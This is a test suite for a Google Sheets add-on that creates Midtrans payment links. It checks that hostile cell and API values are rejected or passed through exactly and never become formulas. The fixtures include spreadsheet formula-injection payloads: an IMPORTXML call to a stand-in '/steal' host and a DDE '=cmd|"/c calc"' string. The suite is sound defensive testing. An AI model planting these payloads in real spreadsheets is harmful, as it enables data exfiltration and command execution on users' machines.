/**
 * Hostile content (issue 8, part 6).
 *
 * Injects: merchant cells that look like formulas (`=IMPORTXML(…)`, `+`, `-`, `@` prefixes), very long
 * strings, Unicode (emoji with ZWJ and variation selectors, RTL text with bidi overrides, combining
 * marks, astral characters), amounts at and past the limits; and Midtrans-side values (error messages,
 * payment_url, notification times and payment types, GET purchase times) that look like formulas or
 * are far longer than a cell.
 *
 * Must hold, row by row: the value is rejected with a Note naming its column, or it reaches Midtrans
 * exactly as typed; the merchant's cells stay exactly as they were; nothing the add-on writes is ever a
 * formula; nothing is shortened without saying so.
 */
import { notificationSignature } from '../../core/src';
import { createAddon, col, isBilledAmountFill, OUTPUT, row, TEMPLATE, type Addon, type Column } from './support/addon';
import { figures } from './support/figures';
import { PLANTED_KEY } from './support/secrets';
import { sha512Hex } from './support/storm';

const inputsTried = {
  merchantCells: 0,
  midtransValues: 0,
  amounts: 0,
  rejectedWithMessage: 0,
  passedExactly: 0,
  formulasFound: 0,
  silentTruncations: 0,
};
afterAll(() => figures.record('hostile-content', inputsTried));

const AUTH = `Basic ${Buffer.from(`${PLANTED_KEY}:`).toString('base64')}`;

/** The link Midtrans (the simulator) stored for an order id, as GET returns it. */
function stored(a: Addon, orderId: string): Record<string, any> | undefined {
  const res = a.sim.handle({ method: 'GET', path: `/v1/payment-links/${encodeURIComponent(orderId)}`, headers: { authorization: AUTH } });
  return res.status === 200 ? (JSON.parse(res.body) as Record<string, any>) : undefined;
}

/** No cell of the sheet holds a formula, and every cell the add-on writes is formatted as text. */
function expectNoFormulas(a: Addon, rows: number): void {
  for (let r = 1; r <= rows + 1; r++) {
    for (let c = 1; c <= TEMPLATE.length; c++) {
      const cell = a.env.inspectCell('Invoices', r, c);
      if (cell?.formula) inputsTried.formulasFound++;
      expect(`${r},${c}: ${cell?.formula ?? ''}`).toBe(`${r},${c}: `);
    }
  }
}

const FORMULA_LIKE = [
  '=IMPORTXML("http://e.x/a","//a")',
  '=1+1',
  '+6281234',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://e.x","Pay")',
  "'=quoted",
];
const UNICODE = [
  '🎟️ Konser 🎶',
  '👨‍👩‍👧‍👦 Keluarga',
  'مرحبا بالعالم',
  '\u202eevil\u202c text',
  'N\u0303on\u0303o Z\u0351\u0361a',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠀋',
  'Ｆｕｌｌ－ｗｉｄｔｈ',
  'Kopi ☕ x2',
];

describe('merchant cells', () => {
  const cases: { column: Column; value: string }[] = [
    ...FORMULA_LIKE.flatMap((v) => [
      { column: 'Title' as Column, value: v },
      { column: 'Item' as Column, value: v },
      { column: 'Customer Name' as Column, value: v },
    ]),
    ...UNICODE.flatMap((v) => [
      { column: 'Title' as Column, value: v },
      { column: 'Item' as Column, value: v },
      { column: 'Customer Name' as Column, value: v },
    ]),
    { column: 'Title', value: 'T'.repeat(40) },
    { column: 'Title', value: 'T'.repeat(41) },
    { column: 'Title', value: '🎶'.repeat(40) },
    { column: 'Title', value: '🎶'.repeat(41) },
    { column: 'Title', value: 'x'.repeat(45_000) },
    { column: 'Item', value: 'i'.repeat(50) },
    { column: 'Item', value: 'i'.repeat(51) },
    { column: 'Customer Name', value: 'n'.repeat(50) },
    { column: 'Customer Name', value: `${'n'.repeat(30)} ${'m'.repeat(60)}` },
    { column: 'Customer Email', value: '=cmd|"/c calc"!A1@example.com' },
    { column: 'Customer Email', value: `${'e'.repeat(45)}@x.com` },
    { column: 'Customer Email', value: 'pembeli@例え.jp' },
    { column: 'Customer Phone', value: '+6281234567890' },
    { column: 'Customer Phone', value: '=6281234567890' },
    { column: 'Customer Phone', value: '0'.repeat(21) },
    { column: 'Order ID', value: '=INV-1' },
    { column: 'Order ID', value: 'A'.repeat(50) },
    { column: 'Order ID', value: 'A'.repeat(51) },
    { column: 'Order ID', value: 'INV-٣' },
    { column: 'Payment Methods', value: '=gopay' },
  ];

  /** Where each column's text lands in the stored link, to compare it exactly. */
  function landed(link: Record<string, any>, column: Column): unknown {
    switch (column) {
      case 'Title':
        return link.title;
      case 'Item':
        return link.item_details?.[0]?.name;
      case 'Customer Name':
        return [link.customer_details?.first_name, link.customer_details?.last_name].filter(Boolean).join(' ');
      case 'Customer Email':
        return link.customer_details?.email;
      case 'Customer Phone':
        return link.customer_details?.phone;
      case 'Order ID':
        return link.order_id;
      default:
        return undefined;
    }
  }

  test(`${cases.length} hostile cell values: each is rejected with a Note naming its column or reaches Midtrans exactly; no cell becomes a formula; the merchant's cells are unchanged`, () => {
    const a = createAddon({ seed: 21 });
    const rows = cases.map((c, i) => {
      const cells: Partial<Record<Column, string>> = { 'Order ID': `HC-${i}`, Amount: '10000' };
      if (c.column === 'Item') Object.assign(cells, { Quantity: '1', 'Unit Price': '10000', Amount: '' });
      if (c.column.startsWith('Customer'))
        Object.assign(cells, { 'Customer Name': 'Budi', 'Customer Email': 'budi@example.com', 'Customer Phone': '08123456789' });
      cells[c.column] = c.value;
      return row(cells);
    });
    a.setSheet(rows);
    a.run('generatePaymentLinks');
    const after = a.rows(rows.length);
    cases.forEach((c, i) => {
      inputsTried.merchantCells++;
      const x = after[i];
      TEMPLATE.forEach((name, k) => {
        if (OUTPUT.includes(name) || (name === 'Amount' && isBilledAmountFill(rows[i], x))) return;
        expect(`${name}: ${x[k]}`).toBe(`${name}: ${rows[i][k]}`);
      });
      const label = `${c.column} ${JSON.stringify(c.value.slice(0, 60))}`;
      if (x[col('Status')] === 'Error') {
        expect(`${label} → ${x[col('Note')].slice(0, 200)}`).toMatch(new RegExp(`→ .*${c.column}: `));
        // The Note quotes a long value only in part, and says so.
        expect(x[col('Note')].length).toBeLessThan(1_000);
        inputsTried.rejectedWithMessage++;
        return;
      }
      expect(`${label} → ${x[col('Status')]}`).toBe(`${label} → Link created`);
      const link = stored(a, x[col('Order ID')]);
      expect(link).toBeDefined();
      if (c.column !== 'Payment Methods')
        expect({ label, landed: landed(link as Record<string, any>, c.column) }).toEqual({ label, landed: c.value });
      inputsTried.passedExactly++;
    });
    expectNoFormulas(a, rows.length);

    // Paid, each row's customer cells are repeated in the Payments sheet: as text, exactly, never a formula.
    const paid = after.filter((x) => x[col('Status')] === 'Link created');
    for (const x of paid) a.post(JSON.stringify(a.sim.pay(x[col('Order ID')], { status: 'settlement', payment_type: 'qris' })));
    const [head, ...logged] = a.env.sheetValues('Payments');
    const at = (name: string) => head.indexOf(name);
    expect(logged.filter((r) => r.some((v) => v !== ''))).toHaveLength(paid.length);
    for (const x of paid) {
      const line = logged.find((r) => r[at('Order ID')] === x[col('Order ID')]);
      for (const name of ['Customer Name', 'Customer Email', 'Customer Phone'] as Column[]) {
        expect({ order: x[col('Order ID')], name, logged: line?.[at(name)] }).toEqual({
          order: x[col('Order ID')],
          name,
          logged: x[col(name)].trim(),
        });
      }
    }
    for (let r = 1; r <= paid.length + 1; r++) {
      for (let c = 1; c <= head.length; c++) {
        const cell = a.env.inspectCell('Payments', r, c);
        if (cell?.formula) inputsTried.formulasFound++;
        expect(`Payments ${r},${c}: ${cell?.formula ?? ''}`).toBe(`Payments ${r},${c}: `);
      }
    }
  });
});

describe('amounts at the limits', () => {
  // 'warned': the minimum of 1 is our reading, not the docs' (docs/midtrans-contract.md §2.5): sent, with a Note.
  const cases: [string, number | 'error' | 'warned'][] = [
    ['1', 1],
    ['0', 'warned'],
    ['-1', 'warned'],
    ['10000', 10000],
    ['Rp 150.000', 150000],
    ['150,000', 150000],
    [' 2500 ', 2500],
    ['9007199254740991', 9007199254740991],
    ['9007199254740992', 'error'],
    ['9007199254740993', 'error'],
    ['99999999999999999999', 'error'],
    ['150.5', 'error'],
    ['150,5', 'error'],
    ['1e3', 'error'],
    ['0x10', 'error'],
    ['Infinity', 'error'],
    ['NaN', 'error'],
    ['1.000.00', 'error'],
    ['١٠٠٠', 'error'],
    ['=100*100', 'error'],
    ['+100', 'error'],
  ];

  test(`${cases.length} amounts: accepted exactly (Midtrans stores the same gross_amount), sent with an Amount warning, or rejected with an Amount note; never rounded`, () => {
    const a = createAddon({ seed: 22 });
    const rows = cases.map(([amount], i) => row({ 'Order ID': `AM-${i}`, Amount: amount }));
    a.setSheet(rows);
    a.run('generatePaymentLinks');
    const after = a.rows(rows.length);
    cases.forEach(([amount, expected], i) => {
      inputsTried.amounts++;
      const x = after[i];
      expect(x[col('Amount')]).toBe(amount);
      if (expected === 'warned') {
        expect(`${amount} → ${x[col('Status')]} ${x[col('Note')]}`).toMatch(/→ Link created .*Amount: is -?\d/);
        expect(stored(a, `AM-${i}`)?.gross_amount).toBe(Number(amount));
      } else if (expected === 'error') {
        expect(`${amount} → ${x[col('Status')]} ${x[col('Note')]}`).toMatch(/→ Error .*Amount: /);
        expect(a.sim.stats().createCallsByOrderId[`AM-${i}`] ?? 0).toBe(0);
        inputsTried.rejectedWithMessage++;
      } else {
        expect(`${amount} → ${x[col('Status')]}`).toBe(`${amount} → Link created`);
        expect(stored(a, `AM-${i}`)?.gross_amount).toBe(expected);
        inputsTried.passedExactly++;
      }
    });
    expectNoFormulas(a, rows.length);
  });

  test('number cells (not text): fractions, huge and unsafe numbers are rejected, negative zero sent as 0 with a warning, whole rupiah accepted exactly', () => {
    const values: [number, number | 'error'][] = [
      [150000, 150000],
      [0.1 + 0.2, 'error'],
      [-0, 0],
      [1e21, 'error'],
      [2 ** 53, 'error'],
      [2 ** 53 - 1, 2 ** 53 - 1],
      [99.99, 'error'],
    ];
    const a = createAddon({ seed: 23 });
    a.setSheet(values.map((_, i) => row({ 'Order ID': `NC-${i}` })));
    a.env.untracked(() => {
      const s = a.env.spreadsheet.getSheetByName('Invoices');
      values.forEach(([v], i) =>
        s
          ?.getRange(i + 2, col('Amount') + 1)
          .setNumberFormat('0.###############')
          .setValue(v),
      );
    });
    a.run('generatePaymentLinks');
    const after = a.rows(values.length);
    values.forEach(([v, expected], i) => {
      inputsTried.amounts++;
      if (expected === 'error') {
        expect(`${v} → ${after[i][col('Status')]} ${after[i][col('Note')]}`).toMatch(/→ Error .*Amount: /);
      } else {
        expect(stored(a, `NC-${i}`)?.gross_amount).toBe(expected);
      }
    });
  });

  test('Quantity × Unit Price past the largest exact amount is rejected, not wrapped or rounded', () => {
    const a = createAddon({ seed: 24 });
    a.setSheet([
      row({ 'Order ID': 'QP-1', Item: 'Emas', Quantity: '3', 'Unit Price': '3002399751580331' }),
      row({ 'Order ID': 'QP-2', Item: 'Emas', Quantity: '2', 'Unit Price': '4503599627370495' }),
    ]);
    a.run('generatePaymentLinks');
    const after = a.rows();
    expect(after[0][col('Status')]).toBe('Error');
    expect(after[1][col('Status')]).toBe('Link created');
    expect(stored(a, 'QP-2')?.gross_amount).toBe(9007199254740990);
    inputsTried.amounts += 2;
  });
});

describe('Midtrans-side values', () => {
  const formulaMessages = ['=IMPORTXML("http://e.x/steal","//a")', '+SUM(1)', '-1+1', '@cmd'];

  test.each(formulaMessages)('an error message %j from Midtrans lands in the Note as text, never a formula', (message) => {
    const a = createAddon({
      seed: 25,
      wrapFetch: (f) => (req) =>
        req.method.toLowerCase() === 'post'
          ? { status: 400, headers: {}, body: JSON.stringify({ status_code: '400', error_messages: [message] }) }
          : f(req),
    });
    a.setSheet([row({ 'Order ID': 'MM-1', Amount: '5000' })]);
    a.run('generatePaymentLinks');
    const note = a.rows()[0][col('Note')];
    expect(a.rows()[0][col('Status')]).toBe('Error');
    expect(note).toContain(message);
    expectNoFormulas(a, 1);
    inputsTried.midtransValues++;
  });

  test('a payment_url that is a formula, not a web address, is refused: the row says Error, no formula is written', () => {
    const a = createAddon({
      seed: 26,
      wrapFetch: (f) => (req) => {
        const res = f(req);
        if ('timedOut' in res || req.method.toLowerCase() !== 'post') return res;
        const body = JSON.parse(res.body) as Record<string, unknown>;
        return { ...res, body: JSON.stringify({ ...body, payment_url: '=HYPERLINK("http://e.x","Pay here")' }) };
      },
    });
    a.setSheet([row({ 'Order ID': 'PU-1', Amount: '5000' })]);
    a.run('generatePaymentLinks');
    expect(a.rows()[0][col('Status')]).toBe('Error');
    expect(a.rows()[0][col('Payment Link')]).toBe('');
    expectNoFormulas(a, 1);
    inputsTried.midtransValues++;
  });

  test('an error body or payment_url longer than a cell holds: the run finishes, every row is written, and a shortened Note says so', () => {
    const huge = `${'<html>'}${'x'.repeat(70_000)}</html>`;
    let creates = 0;
    const a = createAddon({
      seed: 27,
      wrapFetch: (f) => (req) => {
        if (req.method.toLowerCase() !== 'post') return f(req);
        creates++;
        if (req.payload?.includes('LG-1')) return { status: 400, headers: {}, body: JSON.stringify({ error_messages: [huge] }) };
        const res = f(req);
        if ('timedOut' in res) return res;
        return {
          ...res,
          body: JSON.stringify({
            ...(JSON.parse(res.body) as object),
            payment_url: `https://app.sandbox.midtrans.com/${'p'.repeat(60_000)}`,
          }),
        };
      },
    });
    a.setSheet([row({ 'Order ID': 'LG-1', Amount: '5000' }), row({ 'Order ID': 'LG-2', Amount: '6000' })]);
    const out = a.run('generatePaymentLinks');
    expect(out.thrown).toBeUndefined();
    expect(creates).toBeGreaterThan(0);
    const rows = a.rows();
    for (const x of rows) {
      expect(x[col('Status')]).toBe('Error');
      expect(x[col('Note')].length).toBeLessThanOrEqual(50_000);
      if (x[col('Note')].length >= 1_000) {
        inputsTried.silentTruncations += /…|shortened|truncated/.test(x[col('Note')]) ? 0 : 1;
        expect(x[col('Note')]).toMatch(/…|shortened|truncated/);
      }
    }
    expect(rows.map((x) => x[col('Status')])).not.toContain('Queued');
    inputsTried.midtransValues += 2;
  });

  test('notification fields shaped like formulas (settlement_time, payment_type) are refused and never become formulas, and doPost and Refresh write text into cells the merchant left in number format', () => {
    const a = createAddon({ seed: 28 });
    a.setSheet([row({ 'Order ID': 'NF-1', Amount: '5000' }), row({ 'Order ID': 'NF-2', Amount: '5000' })]);
    a.run('generatePaymentLinks');
    // As if the merchant had pasted these links in: the output cells carry the default number format,
    // so each writer (doPost, Refresh) must make them text itself.
    a.env.untracked(() =>
      a.env.spreadsheet
        .getSheetByName('Invoices')
        ?.getRange(2, col('Status') + 1, 2, 3)
        .setNumberFormat('0.###############'),
    );
    const genuine = a.sim.pay('NF-1', { status: 'settlement', payment_type: 'gopay' });
    // settlement_time and payment_type are not signed: a body carrying formulas there still verifies,
    // and is refused for their shape before anything is written.
    const hostile: Record<string, unknown> = { ...genuine, settlement_time: '=IMPORTXML("http://e.x","//a")', payment_type: '=cmd' };
    expect(hostile.signature_key).toBe(notificationSignature(hostile, PLANTED_KEY, sha512Hex));
    expect(JSON.parse(a.post(JSON.stringify(hostile)))).toEqual({ ok: false, result: 'unreadable' });
    expectNoFormulas(a, 2);
    // The genuine body is written by doPost, as text.
    expect(JSON.parse(a.post(JSON.stringify(genuine)))).toEqual({ ok: true, result: 'updated' });
    // Checked before Refresh too: Refresh re-checks paid rows and would write over a formula doPost left.
    expectNoFormulas(a, 2);
    a.sim.pay('NF-2', { status: 'settlement', payment_type: 'gopay' });
    a.run('refreshStatuses');
    expectNoFormulas(a, 2);
    // What the add-on wrote is stored as the text it wrote: Paid At is not coerced into a date or number.
    for (const r of [2, 3]) {
      for (const name of ['Status', 'Paid At', 'Note'] as Column[]) {
        const cell = a.env.inspectCell('Invoices', r, col(name) + 1);
        expect(`${r} ${name}: ${typeof (cell?.value ?? '')}`).toBe(`${r} ${name}: string`);
      }
    }
    expect(a.rows()[1][col('Paid At')]).not.toBe('');
    expect(a.rows()[0][col('Status')]).toBe('Paid');
    inputsTried.midtransValues += 3;
  });
});
